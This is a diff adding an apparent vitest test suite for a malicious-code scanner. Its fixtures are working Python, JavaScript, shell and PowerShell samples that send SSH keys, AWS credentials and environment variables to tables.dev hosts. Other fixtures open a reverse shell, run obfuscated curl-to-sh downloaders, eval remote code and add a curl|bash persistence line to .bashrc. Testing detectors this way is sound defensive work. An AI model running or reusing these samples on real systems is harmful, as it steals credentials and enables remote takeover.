@@ -1,0 +1,289 @@
+/** Code that steals, opens doors or hides: each is found at high or critical, whatever way it is written. */
+import { describe, expect, it } from "vitest";
+import { graveOf, type Files } from "./support.ts";
+
+interface Case {
+  readonly title: string;
+  readonly files: Files;
+  readonly expected: readonly string[];
+}
+
+const python: readonly Case[] = [
+  {
+    title: "keys read in one module and sent by another",
+    files: {
+      "scripts/collect.py": `
+from pathlib import Path
+def gather():
+    found = {}
+    for name in ("id_rsa", "id_ed25519"):
+        path = Path.home() / ".ssh" / name
+        if path.exists():
+            found[name] = path.read_text()
+    return found
+`,
+      "scripts/main.py": `
+import requests
+from collect import gather
+def main():
+    requests.post("https://api.tables.dev/v1/metrics", json={"items": gather()})
+if __name__ == "__main__":
+    main()
+`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
+    title: "an archive of credentials that is uploaded",
+    files: {
+      "a.py": `
+import os, tarfile, requests
+home = os.path.expanduser("~")
+with tarfile.open("/tmp/report.tgz", "w:gz") as archive:
+    archive.add(os.path.join(home, ".aws"))
+with open("/tmp/report.tgz", "rb") as file:
+    requests.put("https://files.tables.dev/upload", data=file)
+`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
+    title: "every file below a folder of keys",
+    files: {
+      "a.py": `
+import os, urllib.request
+out = []
+for root, dirs, names in os.walk(os.path.expanduser("~/.ssh")):
+    for name in names:
+        with open(os.path.join(root, name), errors="ignore") as handle:
+            out.append(handle.read())
+urllib.request.urlopen("https://t.tables.dev/i", data="\\n".join(out).encode())
+`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
+    title: "the environment through an alias",
+    files: {
+      "a.py": `
+from os import environ as settings
+import http.client, json
+line = http.client.HTTPSConnection("m.tables.dev")
+line.request("POST", "/e", json.dumps(dict(settings)))
+`,
+    },
+    expected: ["environment-sent"],
+  },
+  {
+    title: "variables that are picked by how they look",
+    files: {
+      "a.py": `
+import os, requests
+found = {}
+for name, value in os.environ.items():
+    if "KEY" in name or "TOKEN" in name:
+        found[name] = value
+requests.post("https://m.tables.dev/e", json=found)
+`,
+    },
+    expected: ["environment-sent"],
+  },
+  {
+    title: "commands that come through a connection",
+    files: {
+      "a.py": `
+import socket, subprocess
+class Agent:
+    def __init__(self, host):
+        self.host = host
+    def serve(self):
+        line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        line.connect((self.host, 4444))
+        while True:
+            order = line.recv(1024).decode()
+            result = subprocess.run(order, shell=True, capture_output=True)
+            line.send(result.stdout)
+Agent("relay.tables.dev").serve()
+`,
+    },
+    expected: ["reverse-shell"],
+  },
+  {
+    title: "a downloader in three layers of encoding",
+    files: {
+      "a.py": `
+import base64
+layer = "aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vOTEuOTIuMjQyLjMwL3h8c2giKQ=="
+run = getattr(__import__("built" + "ins"), "ex" + "ec")
+run(base64.b64decode(layer).decode())
+`,
+    },
+    expected: ["decoded-run", "disguised-name", "download-run"],
+  },
+  {
+    title: "characters that are shifted by a key",
+    files: {
+      "a.py": `
+data = [73, 89, 10, 7, 70, 75]
+exec("".join(chr(value ^ 42) for value in data))
+`,
+    },
+    expected: ["decoded-run"],
+  },
+  {
+    title: "text that is written backwards",
+    files: { "a.py": `import os\nos.system("hs | x/03.242.29.19//:ptth s- lruc"[::-1])\n` },
+    expected: ["decoded-run", "download-run"],
+  },
+  {
+    title: "a file that is fetched, written and imported",
+    files: {
+      "a.py": `
+import requests, runpy
+body = requests.get("http://185.20.30.40/p.py").content
+with open("/tmp/plugin.py", "wb") as file:
+    file.write(body)
+runpy.run_path("/tmp/plugin.py")
+`,
+    },
+    expected: ["download-run"],
+  },
+  {
+    title: "a secret of another service in the body",
+    files: {
+      "a.py": `
+import os, requests
+session = requests.Session()
+session.post("https://hooks.tables.dev/x", json={"id": os.getenv("ANTHROPIC_API_KEY")})
+`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
+    title: "a start of each shell that fetches",
+    files: {
+      "a.py": `
+import os
+with open(os.path.expanduser("~/.bashrc"), "a") as file:
+    file.write("(curl -s https://cdn.tables.dev/u | bash) &\\n")
+`,
+    },
+    expected: ["persistence"],
+  },
+];
+
+const scripts: readonly Case[] = [
+  {
+    title: "a key that is sent through Node's own client",
+    files: {
+      "a.js": `
+const https = require("https");
+const fs = require("fs");
+const body = fs.readFileSync(process.env.HOME + "/.aws/credentials");
+const request = https.request({ hostname: "m.tables.dev", path: "/c", method: "POST" });
+request.write(body);
+request.end();
+`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
+    title: "a class with a token and files",
+    files: {
+      "a.ts": `
+import { readFile } from "node:fs/promises";
+import os from "node:os";
+import { join } from "node:path";
+class Sync {
+  private readonly names: string[] = [".npmrc", ".netrc"];
+  async run(): Promise<void> {
+    const out: Record<string, string> = {};
+    for (const name of this.names) out[name] = await readFile(join(os.homedir(), name), "utf8");
+    await fetch("https://sync.tables.dev", { method: "POST", body: JSON.stringify(out) });
+  }
+}
+void new Sync().run();
+`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
+    title: "modules that are required by a name in pieces",
+    files: {
+      "a.js": `const run = require("child" + "_process")["ex" + "ecSync"];\nrun(atob("Y3VybCBodHRwOi8vMS4yLjMuNC9hfHNo"));\n`,
+    },
+    expected: ["decoded-run", "disguised-name", "download-run"],
+  },
+  {
+    title: "answers that are evaluated",
+    files: {
+      "a.mjs": `
+import axios from "axios";
+const { data } = await axios.get("https://cfg.tables.dev/run.js");
+eval(data);
+`,
+    },
+    expected: ["remote-eval"],
+  },
+  {
+    title: "the constructor of a constructor",
+    files: { "a.js": `[]["constructor"]["constructor"](atob("YWxlcnQoMSk="))();\n` },
+    expected: ["decoded-run"],
+  },
+];
+
+const shells: readonly Case[] = [
+  {
+    title: "a function that posts what it is given",
+    files: {
+      "a.sh": `report() { curl -s -d "$1" https://m.tables.dev/r; }\nreport "$(cat ~/.ssh/id_rsa)"\n`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
+    title: "a script that hands a key to a module",
+    files: {
+      "run.sh": `#!/bin/sh\npython3 scripts/send.py "$(cat ~/.aws/credentials)"\n`,
+      "scripts/send.py": `import sys, requests\nrequests.post("https://m.tables.dev/r", data=sys.argv[1])\n`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
+    title: "lines of a file of variables, one by one",
+    files: {
+      "a.sh": `cat .env | while read -r line; do curl -s "https://m.tables.dev/?l=$line"; done\n`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
+    title: "a here document for another interpreter",
+    files: {
+      "a.sh": `python3 - <<'EOF'\nimport os, requests\nrequests.post("https://m.tables.dev", json=dict(os.environ))\nEOF\n`,
+    },
+    expected: ["environment-sent"],
+  },
+  {
+    title: "an encoded command of PowerShell",
+    files: {
+      "a.ps1": `powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAuADIALgAzAC4ANAAvAGEAJwApAA==\n`,
+    },
+    expected: ["decoded-run", "download-run"],
+  },
+  {
+    title: "a program that PowerShell fetches and starts",
+    files: {
+      "a.ps1": `$c = New-Object System.Net.WebClient\n$c.DownloadFile("http://45.1.2.3/a.exe", "a.exe")\nStart-Process a.exe\n`,
+    },
+    expected: ["download-run"],
+  },
+];
+
+describe.each([
+  ["Python", python],
+  ["JavaScript", scripts],
+  ["shells", shells],
+])("code in %s", (_, cases) => {
+  it.each(cases)("[BX-07] is caught with $title", async ({ files, expected }) => {
+    expect(await graveOf(files)).toEqual(expected);
+  });
+});
